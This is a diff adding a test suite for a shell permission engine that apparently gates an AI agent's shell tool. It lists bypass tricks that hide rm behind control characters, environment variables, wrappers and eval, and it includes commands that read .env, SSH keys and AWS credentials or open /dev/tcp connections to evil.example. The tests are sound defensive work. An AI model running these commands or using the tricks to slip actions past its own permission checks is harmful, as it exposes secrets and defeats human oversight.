@@ -1,0 +1,441 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the test lines are shell, whose own syntax is ${…}
+// Lines an attacker writes so that the rules judge something else than what bash runs. Each block is
+// one class: the first rows are the reported examples, the rest the class around them.
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { PermissionLayers } from './evaluate-permission.ts';
+import type { PermissionEngine, ToolCallEvaluation } from './permission-engine.ts';
+import type { PermissionRule } from './permission-rule.ts';
+import {
+  cases,
+  createWarmEngine,
+  defaultAndUserRules,
+  evaluateLine,
+  expectDecision,
+  explainEvaluation,
+  parseRules,
+} from './permission-test-kit.ts';
+import { loadShellParser, type ShellParser } from './shell/shell-parser.ts';
+
+let engine: PermissionEngine;
+const rules: PermissionRule[] = defaultAndUserRules();
+
+beforeAll(async () => {
+  engine = await createWarmEngine();
+});
+
+function shell(
+  command: string,
+  options: {
+    layers?: PermissionLayers;
+    canonicalPaths?: (given: string) => readonly string[] | undefined;
+  } = {},
+): ToolCallEvaluation {
+  return evaluateLine(engine, command, {
+    layers: options.layers ?? { file: rules },
+    home: '/home/me',
+    canonicalPaths: options.canonicalPaths,
+  });
+}
+
+/** The default and user rules plus `extra` (a JSON rules object). */
+function withRules(extra: object): PermissionLayers {
+  return { file: [...rules, ...parseRules(JSON.stringify(extra))] };
+}
+
+describe('bytes that bash and the parser read differently', () => {
+  it.each(
+    cases([
+      { command: 'echo hi\v# ; rm -rf x', decision: 'deny', why: 'bash reads \\v as a word character', by: 'rm -rf x' },
+      { command: 'echo hi\f# ; rm -rf x', decision: 'deny', why: 'and \\f', by: 'rm -rf x' },
+      { command: 'echo hi\r# ; rm -rf x', decision: 'deny', why: 'and \\r', by: 'rm -rf x' },
+      { command: 'echo hi\u00a0# ; rm -rf x', decision: 'deny', why: 'a no-break space is no blank to bash' },
+      { command: 'echo hi\u2028# ; rm -rf x', decision: 'deny', why: 'nor a line separator' },
+      { command: 'echo hi\u3000# ; rm -rf x', decision: 'deny', why: 'nor an ideographic space' },
+      { command: 'echo hi\u0085# ; rm -rf x', decision: 'deny', why: 'nor a next-line character' },
+      { command: 'echo hi\v#', decision: 'ask', why: 'a \\v alone still asks' },
+      { command: 'echo hi\f', decision: 'ask', why: 'a \\f alone still asks' },
+      { command: 'ls\u000bfoo', decision: 'ask', why: 'a \\v inside a word' },
+      { command: 'echo hi\u0001 there', decision: 'ask', why: 'another C0 control character' },
+      { command: 'echo \u001b[31mred', decision: 'ask', why: 'an escape character' },
+      { command: 'echo a\u007f b', decision: 'ask', why: 'DEL' },
+      { command: 'echo a\u0001; rm x', decision: 'deny', why: 'a control character does not hide rm', by: 'rm x' },
+      { command: 'echo \ufeffhi', decision: 'ask', why: 'a byte-order mark inside the line' },
+      { command: 'echo "a\u00a0b"', decision: 'ask', why: 'such characters ask even inside quotes' },
+      { command: 'echo \\ #; rm -rf x', decision: 'deny', why: 'a word that starts with an escaped blank' },
+      { command: 'echo a \\\t#; rm -rf x', decision: 'deny', why: 'an escaped tab starting a word' },
+      { command: 'echo \\ #', decision: 'ask', why: 'an escaped blank starting a word asks' },
+      {
+        command: 'echo a >#b; rm x',
+        decision: 'ask',
+        why: 'bash refuses a # right after > (a comment eats the target)',
+      },
+      { command: 'echo hi\ue100 there', decision: 'ask', why: 'a private-use character' },
+      { command: 'echo hi there # a comment; rm x', decision: 'allow', why: 'a real comment still runs nothing' },
+      { command: 'echo a;# rm x', decision: 'allow', why: 'a comment right after ; is a comment to bash too' },
+      { command: 'echo "tab\there" \'and\ttabs\'', decision: 'allow', why: 'tabs are blanks to both' },
+      { command: 'echo "héllo — wörld"', decision: 'allow', why: 'ordinary non-ASCII text' },
+    ]),
+  )('%s', (_title, row) => {
+    const evaluation = shell(row.command);
+    expectDecision(evaluation, row);
+    expect(evaluation.problems.length, explainEvaluation(evaluation)).toBeGreaterThan(
+      row.decision === 'allow' ? -1 : 0,
+    );
+  });
+});
+
+describe('environment assignments keep an allow only for harmless names', () => {
+  it.each(
+    cases([
+      { command: "GIT_EXTERNAL_DIFF='touch X' git log -p --ext-diff", decision: 'ask', why: 'git runs that program' },
+      { command: 'HOME=/tmp/evil git log', decision: 'ask', why: 'git reads its config from HOME' },
+      { command: 'XDG_CONFIG_HOME=/tmp/evil git log', decision: 'ask', why: 'so from XDG_CONFIG_HOME' },
+      { command: 'GIT_DIR=/tmp/evil git log', decision: 'ask', why: 'another repository and its config' },
+      { command: 'GIT_WORK_TREE=/ git status', decision: 'ask', why: 'another work tree' },
+      { command: 'GIT_PROXY_COMMAND=./x git log', decision: 'ask', why: 'a proxy program' },
+      { command: 'GIT_TRACE2_EVENT=/tmp/out git status', decision: 'ask', why: 'a file git writes' },
+      { command: 'GIT_TRACE=/home/me/.bashrc git status', decision: 'ask', why: 'GIT_TRACE writes a file' },
+      { command: 'GCONV_PATH=. git log', decision: 'ask', why: 'a library loaded by iconv' },
+      { command: "LESSOPEN='|rm x %s' git log", decision: 'ask', why: 'a preprocessor less runs' },
+      { command: 'FOO=1 ls', decision: 'ask', why: 'a name not on the harmless list' },
+      { command: 'foo=1 ls', decision: 'ask', why: 'lower case before a command reaches its environment too' },
+      { command: 'http_proxy=http://evil:8080 git status', decision: 'ask', why: 'a proxy for git' },
+      { command: 'LANG=C git log', decision: 'allow', why: 'LANG is harmless' },
+      {
+        command: 'LC_ALL=C.UTF-8 TZ=UTC NO_COLOR=1 CI=true git log --oneline',
+        decision: 'allow',
+        why: 'several harmless names',
+      },
+      { command: 'LC_ALL=/tmp/evil git log', decision: 'ask', why: 'a locale given as a path' },
+      { command: 'FORCE_COLOR=1 TERM=dumb COLUMNS=80 git log', decision: 'allow', why: 'display settings' },
+      { command: 'LANG=$(rm x) git log', decision: 'deny', why: 'a value that runs rm', by: 'rm x' },
+      { command: 'export GIT_DIR=/tmp/evil; git log', decision: 'ask', why: 'an export before the command' },
+      { command: 'GIT_DIR=/tmp/evil; git log', decision: 'ask', why: 'a bare assignment of an exported name' },
+      { command: 'x=1; echo $x', decision: 'allow', why: 'a lower-case shell variable stays in the shell' },
+      { command: 'for PATH in /tmp/evil; do ls; done', decision: 'ask', why: 'a loop variable named PATH' },
+    ]),
+  )('%s', (_title, row) => {
+    expectDecision(shell(row.command), row);
+  });
+
+  it.each(
+    cases([
+      { command: 'env GIT_DIR=/tmp/evil git log', decision: 'ask', why: 'env NAME=… cmd' },
+      { command: 'env HOME=/tmp git status', decision: 'ask', why: 'env HOME=' },
+      { command: 'env LANG=C git log', decision: 'allow', why: 'env with a harmless name' },
+      { command: 'export GIT_PAGER=x; git log', decision: 'ask', why: 'export even when export is allowed' },
+      { command: 'export NO_COLOR=1; git log', decision: 'allow', why: 'export of a harmless name' },
+      { command: 'read -r GIT_DIR <<< /tmp/evil; git log', decision: 'ask', why: 'read assigns a name' },
+      { command: 'read -r line <<< hello; echo $line', decision: 'allow', why: 'read into a shell variable' },
+      { command: 'printf -v HOME %s /tmp; git status', decision: 'ask', why: 'printf -v assigns a name' },
+      { command: 'set -a; x=1; git status', decision: 'ask', why: 'set -a exports every assignment' },
+      { command: 'set -o allexport; git status', decision: 'ask', why: 'the long form of set -a' },
+      { command: 'set -e; git status', decision: 'allow', why: 'other shell options' },
+      { command: 'declare -x HOME=/tmp; git status', decision: 'ask', why: 'declare -x' },
+      { command: 'declare -i n=3; echo $n', decision: 'allow', why: 'a shell variable that is not exported' },
+    ]),
+  )('%s (env, export, read, printf, set and declare allowed by rule)', (_title, row) => {
+    const allowed = ['env *', 'export *', 'read *', 'printf *', 'set *', 'declare *'];
+    expectDecision(
+      shell(row.command, {
+        layers: withRules({ shell_exec: Object.fromEntries(allowed.map((rule) => [rule, 'allow'])) }),
+      }),
+      row,
+    );
+  });
+});
+
+describe('denies that must not degrade to asks', () => {
+  const findAllowed = withRules({ shell_exec: { 'find *': 'allow' } });
+
+  it.each(
+    cases([
+      { command: "eval -- 'rm -rf x'", decision: 'deny', why: 'eval --', by: 'rm -rf x' },
+      { command: 'eval -- rm -rf x', decision: 'deny', why: 'eval -- with words', by: 'rm -rf x' },
+      { command: 'coproc rm -rf x', decision: 'deny', why: 'coproc', by: 'rm -rf x' },
+      { command: 'coproc worker { rm -rf x; }', decision: 'deny', why: 'a named coproc with a group' },
+      { command: 'coproc { rm -rf x; }', decision: 'deny', why: 'an unnamed coproc with a group' },
+      { command: 'coproc (rm -rf x)', decision: 'deny', why: 'a coproc subshell' },
+    ]),
+  )('%s', (_title, row) => {
+    expectDecision(shell(row.command), row);
+  });
+
+  it.each(
+    cases([
+      { command: 'find . -delete', decision: 'deny', why: 'find -delete removes files like rm' },
+      { command: "find build -name '*.o' -delete", decision: 'deny', why: 'with a test before it' },
+      { command: 'find . -type f -print', decision: 'allow', why: 'find without -delete is allowed' },
+    ]),
+  )('%s (find allowed, rm denied)', (_title, row) => {
+    expectDecision(shell(row.command, { layers: findAllowed }), row);
+  });
+
+  it('denies a denied command after more than 256 commands', () => {
+    const line = `${Array.from({ length: 300 }, () => 'ls').join(' && ')} && rm -rf x`;
+    const evaluation = shell(line);
+    expect(evaluation.decision.type, explainEvaluation(evaluation)).toBe('deny');
+  });
+
+  it('denies a denied command found before parsing ran out of time', async () => {
+    // A parser whose every parse of a payload (a bash -c string) runs out of time.
+    const real = await loadShellParser();
+    const parser: ShellParser = {
+      ...real,
+      parse: (source, options) => (source.startsWith('ls;') ? undefined : real.parse(source, options)),
+    };
+    const impatient = await createWarmEngine({ parser });
+    for (const line of ["rm -rf x; bash -c 'ls; pwd'", "bash -c 'ls; pwd'; rm -rf x"]) {
+      const evaluation = evaluateLine(impatient, line, { layers: { file: rules } });
+      expect(evaluation.decision.type, `${line}\n${explainEvaluation(evaluation)}`).toBe('deny');
+      expect(evaluation.problems.join('\n')).toMatch(/parsing took longer/);
+    }
+  });
+
+  it('denies a denied command after the analysis time ran out', async () => {
+    const impatient = await createWarmEngine({ limits: { analysisTimeoutMs: 0 } });
+    const evaluation = evaluateLine(impatient, "bash -c 'ls'; ls; rm -rf x", { layers: { file: rules } });
+    expect(evaluation.decision.type, explainEvaluation(evaluation)).toBe('deny');
+  });
+});
+
+describe('wrappers that run another command', () => {
+  it.each(
+    cases([
+      { command: 'parallel rm ::: a b', decision: 'deny', why: 'parallel CMD ::: args' },
+      { command: "parallel 'rm {}' ::: a b", decision: 'deny', why: 'parallel with a quoted command' },
+      { command: 'parallel -j 4 rm -rf ::: a', decision: 'deny', why: 'parallel -j N' },
+      { command: "script -c 'rm -rf x'", decision: 'deny', why: 'script -c', by: 'rm -rf x' },
+      { command: "script -qc 'rm -rf x' /dev/null", decision: 'deny', why: 'script -qc', by: 'rm -rf x' },
+      { command: "script --command='rm -rf x'", decision: 'deny', why: 'script --command=', by: 'rm -rf x' },
+      { command: 'taskset -c 0 rm -rf x', decision: 'deny', why: 'taskset -c LIST', by: 'rm -rf x' },
+      { command: 'taskset 0x1 rm -rf x', decision: 'deny', why: 'taskset MASK', by: 'rm -rf x' },
+      { command: 'chrt 10 rm x', decision: 'deny', why: 'chrt PRIORITY', by: 'rm x' },
+      { command: 'chrt -f 10 rm x', decision: 'deny', why: 'chrt -f PRIORITY', by: 'rm x' },
+      { command: 'strace rm x', decision: 'deny', why: 'strace', by: 'rm x' },
+      {
+        command: 'strace -f -o /dev/null -e trace=file rm x',
+        decision: 'deny',
+        why: 'strace with options',
+        by: 'rm x',
+      },
+      { command: 'ltrace -o /dev/null rm x', decision: 'deny', why: 'ltrace', by: 'rm x' },
+      { command: 'unshare -r rm x', decision: 'deny', why: 'unshare', by: 'rm x' },
+      { command: 'unshare --mount --pid --fork rm x', decision: 'deny', why: 'unshare with long options', by: 'rm x' },
+      { command: 'systemd-run --user rm x', decision: 'deny', why: 'systemd-run', by: 'rm x' },
+      {
+        command: 'systemd-run --user -p MemoryMax=1G --wait rm x',
+        decision: 'deny',
+        why: 'systemd-run -p',
+        by: 'rm x',
+      },
+      { command: 'gdb --args rm x', decision: 'deny', why: 'gdb --args', by: 'rm x' },
+      { command: "gdb -batch -ex 'shell rm x'", decision: 'deny', why: 'a gdb shell command', by: 'rm x' },
+      { command: 'valgrind rm x', decision: 'deny', why: 'valgrind', by: 'rm x' },
+      { command: 'valgrind --tool=memcheck -q rm x', decision: 'deny', why: 'valgrind with options', by: 'rm x' },
+      { command: 'fakeroot rm x', decision: 'deny', why: 'fakeroot', by: 'rm x' },
+      { command: 'fakeroot -- rm x', decision: 'deny', why: 'fakeroot --', by: 'rm x' },
+      { command: 'firejail rm x', decision: 'deny', why: 'firejail', by: 'rm x' },
+      { command: 'firejail --noprofile --net=none rm x', decision: 'deny', why: 'firejail options', by: 'rm x' },
+      { command: "sg wheel -c 'rm x'", decision: 'deny', why: 'sg GROUP -c', by: 'rm x' },
+      { command: "sg wheel 'rm x'", decision: 'deny', why: 'sg GROUP COMMAND', by: 'rm x' },
+      { command: 'pkexec rm x', decision: 'deny', why: 'pkexec', by: 'rm x' },
+      { command: 'pkexec --user bob rm x', decision: 'deny', why: 'pkexec --user', by: 'rm x' },
+      { command: 'nsenter -t 1 -m -u rm x', decision: 'deny', why: 'nsenter', by: 'rm x' },
+      { command: 'prlimit --nofile=10 rm x', decision: 'deny', why: 'prlimit', by: 'rm x' },
+      { command: 'numactl -C 0 rm x', decision: 'deny', why: 'numactl', by: 'rm x' },
+      { command: 'setpriv --reuid=1000 rm x', decision: 'deny', why: 'setpriv', by: 'rm x' },
+      { command: 'xvfb-run -a rm x', decision: 'deny', why: 'xvfb-run', by: 'rm x' },
+      { command: 'unbuffer rm x', decision: 'deny', why: 'unbuffer', by: 'rm x' },
+      { command: 'dbus-run-session -- rm x', decision: 'deny', why: 'dbus-run-session', by: 'rm x' },
+      { command: 'setarch x86_64 -R rm x', decision: 'deny', why: 'setarch', by: 'rm x' },
+      { command: 'linux32 rm x', decision: 'deny', why: 'linux32', by: 'rm x' },
+      { command: "entr -s 'rm x'", decision: 'deny', why: 'entr -s', by: 'rm x' },
+      { command: 'catchsegv rm x', decision: 'deny', why: 'catchsegv', by: 'rm x' },
+      { command: 'proxychains4 -q rm x', decision: 'deny', why: 'proxychains', by: 'rm x' },
+      { command: 'torsocks rm x', decision: 'deny', why: 'torsocks', by: 'rm x' },
+      { command: 'chpst -u bob rm x', decision: 'deny', why: 'chpst', by: 'rm x' },
+      { command: 'ionice -c 3 nice taskset 1 rm x', decision: 'deny', why: 'wrappers inside wrappers', by: 'rm x' },
+      { command: 'git rebase -x "rm -rf x" main', decision: 'deny', why: 'git rebase -x runs a command' },
+      { command: 'git bisect run rm -rf x', decision: 'deny', why: 'git bisect run', by: 'rm -rf x' },
+      { command: "git submodule foreach 'rm -rf x'", decision: 'deny', why: 'git submodule foreach' },
+      { command: "tar -xf a.tar --to-command='rm -rf x'", decision: 'deny', why: 'tar --to-command' },
+      { command: 'rsync -e "rm -rf x" a b:', decision: 'deny', why: 'rsync -e' },
+      { command: 'taskset -c 0 ls', decision: 'ask', why: 'a known wrapper itself still asks' },
+    ]),
+  )('%s', (_title, row) => {
+    expectDecision(shell(row.command), row);
+  });
+
+  it.each(
+    cases([
+      { command: 'mywrapper rm -rf x', decision: 'deny', why: 'an unknown wrapper around rm' },
+      { command: 'mywrapper --flag -v rm -rf x', decision: 'deny', why: 'after unknown options' },
+      { command: 'mywrapper -c "rm -rf x"', decision: 'deny', why: 'a command string to an unknown program' },
+      { command: '$RUNNER rm -rf x', decision: 'deny', why: 'a wrapper only known at run time' },
+      { command: '"$(which nice)" rm -rf x', decision: 'deny', why: 'a substituted wrapper' },
+      { command: 'mywrapper ls', decision: 'ask', why: 'an unknown program asks as before' },
+      { command: 'echo rm -rf x', decision: 'allow', why: 'an allowed echo only prints the words' },
+      { command: "grep -r 'rm -rf' src", decision: 'allow', why: 'an allowed grep only searches for them' },
+      { command: "git log --grep='rm -rf'", decision: 'allow', why: 'an allowed git log too' },
+    ]),
+  )('%s', (_title, row) => {
+    expectDecision(shell(row.command), row);
+  });
+});
+
+describe('arguments that turn an allowed command into a write or a read', () => {
+  it.each(
+    cases([
+      { command: 'git log --output=notes.txt', decision: 'allow', why: 'a write the write_file rules allow' },
+      { command: 'git log --output notes.txt', decision: 'allow', why: 'the separate form' },
+      { command: 'git log --output package.json', decision: 'ask', why: 'a write the write_file rules ask about' },
+      { command: 'git diff -p --output=/home/me/.bashrc', decision: 'ask', why: 'a write outside the workdir' },
+      { command: 'git log -p --output=.env', decision: 'deny', why: 'a write the write_file rules deny' },
+      { command: 'git diff --output=.git/hooks/pre-commit', decision: 'deny', why: 'a git hook' },
+      { command: 'git log --output=/dev/null', decision: 'allow', why: 'writing to /dev/null changes no file' },
+      { command: 'git diff --ext-diff', decision: 'ask', why: 'an external diff program from git config' },
+      { command: 'git log -p --ext-diff', decision: 'ask', why: 'the same for git log' },
+      { command: "git -c core.pager='rm x' log", decision: 'deny', why: 'a config value that runs rm' },
+      { command: 'git -c core.fsmonitor=./x status', decision: 'ask', why: 'a config value runs a program' },
+      { command: 'git log --no-ext-diff -p', decision: 'allow', why: 'turning it off is harmless' },
+      { command: 'echo data | grep -f patterns.txt', decision: 'allow', why: 'an allowed read' },
+      { command: 'echo x | grep -f .env', decision: 'deny', why: 'grep -f reads .env' },
+    ]),
+  )('%s', (_title, row) => {
+    expectDecision(shell(row.command), row);
+  });
+
+  it.each(
+    cases([
+      { command: 'cat .env', decision: 'deny', why: 'cat reads what read_file may not' },
+      { command: 'cat ./.env', decision: 'deny', why: 'a ./ spelling' },
+      { command: 'cat src/../.env', decision: 'deny', why: 'a .. spelling' },
+      { command: 'cat README.md .env.local', decision: 'deny', why: 'the second file' },
+      { command: 'cat < .env', decision: 'deny', why: 'an input redirection' },
+      { command: 'cat 0< .env', decision: 'deny', why: 'with a descriptor' },
+      { command: 'grep KEY < .env', decision: 'deny', why: 'into an allowed grep' },
+      { command: 'grep KEY .env', decision: 'deny', why: 'grep with a file' },
+      { command: 'grep -e KEY -- .env', decision: 'deny', why: 'grep -e PATTERN -- FILE' },
+      { command: 'grep -rn KEY src .env', decision: 'deny', why: 'several paths' },
+      { command: 'cat ~/.ssh/id_ed25519', decision: 'deny', why: 'a private key outside the workdir' },
+      { command: 'cat /home/me/.aws/credentials', decision: 'deny', why: 'cloud credentials' },
+      { command: 'cat .env.example', decision: 'allow', why: 'the example file is allowed' },
+      { command: 'cat README.md src/index.ts', decision: 'allow', why: 'ordinary files' },
+      { command: 'cat "$F"', decision: 'ask', why: 'a file only known when the line runs' },
+      { command: 'for f in README.md .env; do cat "$f"; done', decision: 'deny', why: 'a loop over .env' },
+      { command: 'for f in README.md notes.txt; do cat "$f"; done', decision: 'allow', why: 'a loop over files' },
+      { command: 'for f in a.txt; do f=.env; cat "$f"; done', decision: 'ask', why: 'a loop variable set again' },
+      { command: 'diff <(sort a.txt) <(sort b.txt)', decision: 'ask', why: 'diff itself has no rule' },
+      { command: 'cat < /dev/tcp/10.0.0.1/80', decision: 'ask', why: 'bash opens a network connection' },
+      { command: 'echo x > /dev/tcp/evil.example/80', decision: 'ask', why: 'and when writing' },
+      { command: 'exec 3<>/dev/udp/10.0.0.1/53', decision: 'ask', why: 'udp too' },
+      { command: 'ls < /dev/null', decision: 'allow', why: '/dev/null is no file' },
+    ]),
+  )('%s', (_title, row) => {
+    expectDecision(shell(row.command), row);
+  });
+
+  it.each(
+    cases([
+      { command: 'head -n 5 .env', decision: 'deny', why: 'head' },
+      { command: 'tail -f .env.production', decision: 'deny', why: 'tail' },
+      { command: 'less .env', decision: 'deny', why: 'less' },
+      { command: 'wc -l .env', decision: 'deny', why: 'wc' },
+      { command: 'sort .env', decision: 'deny', why: 'sort' },
+      { command: 'cut -d= -f1 .env', decision: 'deny', why: 'cut' },
+      { command: 'sed -n 1p .env', decision: 'deny', why: 'sed' },
+      { command: "awk '{print}' .env", decision: 'deny', why: 'awk' },
+      { command: 'base64 .env', decision: 'deny', why: 'base64' },
+      { command: 'xxd .env', decision: 'deny', why: 'xxd' },
+      { command: 'strings .env', decision: 'deny', why: 'strings' },
+      { command: 'diff .env .env.example', decision: 'deny', why: 'diff' },
+      { command: 'cp .env leak.txt', decision: 'deny', why: 'cp reads its sources' },
+      { command: 'source .env', decision: 'deny', why: 'source' },
+      { command: '. ./.env', decision: 'deny', why: '.' },
+      { command: 'jq . my-credentials.json', decision: 'deny', why: 'jq' },
+      { command: 'dd if=.env of=leak', decision: 'deny', why: 'dd if=' },
+      { command: 'tar -czf out.tgz .env', decision: 'deny', why: 'tar of a denied file' },
+    ]),
+  )('%s (every command allowed by rule)', (_title, row) => {
+    expectDecision(shell(row.command, { layers: withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny' } }) }), row);
+  });
+
+  it.each(
+    cases([
+      { command: 'echo x | tee .env', decision: 'deny', why: 'tee writes .env' },
+      { command: 'cp notes.txt .git/config', decision: 'deny', why: 'cp writes a git config' },
+      { command: 'mv x .git/hooks/pre-push', decision: 'deny', why: 'mv writes a git hook' },
+      { command: 'sed -i s/a/b/ .env', decision: 'deny', why: 'sed -i rewrites .env' },
+      { command: 'sort -o .env list', decision: 'deny', why: 'sort -o' },
+      { command: 'dd if=x of=.git/config', decision: 'deny', why: 'dd of=' },
+      { command: 'touch .git/hooks/post-checkout', decision: 'deny', why: 'touch' },
+      { command: 'chmod +x .git/hooks/pre-commit', decision: 'deny', why: 'chmod' },
+      { command: 'ln -s /tmp/x .git/hooks/pre-commit', decision: 'deny', why: 'ln' },
+      { command: 'cp a b', decision: 'allow', why: 'an ordinary copy' },
+    ]),
+  )('%s (every command allowed, writes too)', (_title, row) => {
+    const layers = withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny', '> *': 'allow' } });
+    expectDecision(shell(row.command, { layers }), row);
+  });
+
+  it('judges a file argument where it really leads', () => {
+    const evaluation = shell('cat notes.txt', {
+      canonicalPaths: (given) => (given === 'notes.txt' ? ['.env', '/work/project/.env'] : undefined),
+    });
+    expect(evaluation.decision.type, explainEvaluation(evaluation)).toBe('deny');
+  });
+
+  it('judges a glob argument by the files it names', () => {
+    const expanded = (given: string) => (given === '.e*' ? ['.env', '/work/project/.env'] : undefined);
+    expect(shell('cat .e*', { canonicalPaths: expanded }).decision.type).toBe('deny');
+    expect(shell('cat .e*').decision.type).toBe('ask');
+  });
+
+  it('asks, never allows, sed and awk programs that run commands or write files', () => {
+    const layers = withRules({ shell_exec: { 'sed *': 'allow', 'awk *': 'allow' } });
+    expect(shell("sed -n 's/a/b/p' notes.txt", { layers }).decision.type).toBe('allow');
+    expect(shell("sed 's/x/rm -rf y/e' notes.txt", { layers }).decision.type).toBe('ask');
+    expect(shell("sed '1e rm -rf y' notes.txt", { layers }).decision.type).toBe('ask');
+    expect(shell("sed 'w .git/config' notes.txt", { layers }).decision.type).toBe('ask');
+    expect(shell("awk '{ print $1 }' notes.txt", { layers }).decision.type).toBe('allow');
+    expect(shell('awk \'BEGIN { system("rm -rf y") }\'', { layers }).decision.type).toBe('ask');
+    expect(shell('awk \'{ print | "sh" }\' notes.txt', { layers }).decision.type).toBe('ask');
+  });
+});
+
+describe('what people are shown', () => {
+  it.each([
+    ['echo hi\u001b[2J\u001b[Hlooks fine', "echo $'hi\\x1b[2J\\x1b[Hlooks' fine"],
+    ['echo hi\v# ; rm -rf x', "echo $'hi\\v#'"],
+    ['echo a\u00a0b', "echo $'a\\u00a0b'"],
+    ['echo "it\'s"', "echo 'it'\\''s'"],
+  ])('shows control and invisible characters of %j as escapes, never raw', (command, shown) => {
+    const evaluation = shell(command);
+    expect(evaluation.verdicts[0]?.subject.label).toBe(shown);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters must not be shown
+    expect(evaluation.verdicts.every(({ subject }) => !/[\u0000-\u001f\u007f\u00a0]/.test(subject.label))).toBe(true);
+  });
+});
+
+describe('file rules restrict a shell line, they never widen or replace its own rules', () => {
+  const shellOnly = { file: parseRules('{ "*": "ask", "shell_exec": { "*": "allow", "rm *": "deny" } }') };
+
+  it('adds nothing when the file names no read_file or write_file rule (the "*" tool does not count)', () => {
+    for (const command of ['cat notes.txt', 'touch a.flag', 'echo $$ > pid.txt', 'cat .env']) {
+      const evaluation = shell(command, { layers: shellOnly });
+      expect(evaluation.decision.type, `${command}\n${explainEvaluation(evaluation)}`).toBe('allow');
+    }
+  });
+
+  it('applies a read_file or write_file rule the file does name', () => {
+    const layers = {
+      file: parseRules(
+        '{ "*": "ask", "shell_exec": "allow", "read_file": { "*.env": "deny" }, "write_file": { "package.json": "ask" } }',
+      ),
+    };
+    expect(shell('cat .env', { layers }).decision.type).toBe('deny');
+    expect(shell('cat notes.txt', { layers }).decision.type).toBe('allow');
+    expect(shell('echo {} > package.json', { layers }).decision.type).toBe('ask');
+  });
+});
